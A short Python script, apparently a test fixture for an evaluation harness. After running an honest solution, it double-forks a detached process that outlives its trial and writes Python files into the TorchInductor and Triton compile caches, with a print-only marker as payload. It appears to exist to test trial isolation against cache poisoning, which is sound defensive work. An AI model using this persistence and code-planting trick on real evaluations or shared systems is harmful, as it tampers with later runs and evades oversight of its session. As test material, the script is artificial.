"""Writes into the compile cache when its own trial is over, by a process that stays."""

import os
import time
from pathlib import Path

from honest import main, predict  # noqa: F401

if __name__ == "__main__":
    main()
    if not os.fork():
        os.setsid()
        if os.fork():
            os._exit(0)
        for n in range(600):
            for name in ("TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR"):
                try:
                    Path(os.environ[name]).mkdir(parents=True, exist_ok=True)
                    Path(os.environ[name], f"{n}.py").write_text("print('ATTACK SUCCEEDED: planted code runs')\n")
                except OSError:
                    pass
            time.sleep(0.01)
        os._exit(0)
